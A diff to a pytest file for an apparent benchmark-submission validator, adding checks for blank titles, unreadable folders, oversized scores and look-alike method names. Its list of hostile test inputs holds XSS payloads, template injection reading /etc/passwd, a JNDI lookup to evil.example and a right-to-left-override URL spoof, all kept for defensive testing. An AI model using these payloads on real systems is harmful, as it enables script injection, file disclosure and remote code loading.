@@ -256,7 +256,7 @@ def test_runs_without_a_latent_that_varies_are_not_taken_for_one():
     assert not copies.same(copies.ranked(np.full((60, 2), 1.0)), copies.ranked(np.full((60, 2), 2.0)))
 
 
-def test_one_task_under_two_names(good, toys, monkeypatch):
+def test_a_task_under_a_short_name(good, toys, monkeypatch):
     loads = benchmark_data.load
     monkeypatch.setattr(benchmark_data, "load", lambda name: loads("toy/spacing_1" if name == "toy" else name))
     shutil.copytree(good / TASKS[0], good / "copy")
@@ -265,7 +265,7 @@ def test_one_task_under_two_names(good, toys, monkeypatch):
     (good / "copy").rmdir()
     edit(good, lambda c: c["tasks"].update(toy=c["tasks"][TASKS[0]]))
     (problem,) = problems(good)
-    assert "tasks.toy: expected each task once, received toy/spacing_1@v1, which tasks.toy/spacing_1 is, too" in problem
+    assert "tasks.toy: expected the full name of the dataset, toy/spacing_1." in problem
 
 
 @pytest.mark.parametrize(("key", "near"), [("MIG", "mig"), ("mig_", "mig"), ("dci.completenes", "dci.completeness")])
@@ -276,6 +276,22 @@ def test_a_claim_of_a_score_that_is_not_computed(good, run_folder, key, near):
     assert f"received {key!r}. Did you mean {near!r}?" in problem
     with pytest.raises(UnknownName, match="claimed: expected one of dci"):
         list(candidates.results_of([run_folder(claimed={key: 0.95})]))
+
+
+def test_a_title_that_prints_nothing_and_a_folder_that_cannot_be_read(good, monkeypatch):
+    edit(good, lambda c: c["about"].update(title="\u3164 \u00a0"))
+    assert "about.title: expected some text, received nothing" in problems(good)[0]
+
+    def refused(path):
+        raise PermissionError(13, "Permission denied", str(path))
+
+    monkeypatch.setattr("os.scandir", refused)
+    assert problems(good) == [f"{good}: Permission denied. Make it readable."]
+
+
+def test_a_claim_has_few_digits(good):
+    edit(good, lambda c: c["tasks"][TASKS[0]]["seeds"][0].update(claimed={"mig": 1e300}))
+    assert "claimed.mig: expected at most 1000000.0" in problems(good)[0]
 
 
 def test_a_name_like_one_that_is_published(good):
@@ -309,6 +325,7 @@ def test_a_name_of_a_reference(good, run_folder, name):
         "B\u0435t\u0430 VAE",
         "\u0420\u0421A",
         "P\u0421\u0391",
+        "\U0001d401eta-\U0001d415\U0001d400\U0001d404",
     ],
 )
 def test_a_title_of_another_method_or_of_a_reference(good, run_folder, title):
@@ -562,6 +579,7 @@ TEXTS = [
     "<img src=x onerror=alert(1)>",
     '"><svg onload=alert(1)>',
     "javascript:alert(1)",
+    "https://exa\u202emple.org/gro.\u202e",
     "{{ 7 * 7 }}",
     "{% include '/etc/passwd' %}",
     "${jndi:ldap://evil.example/a}",
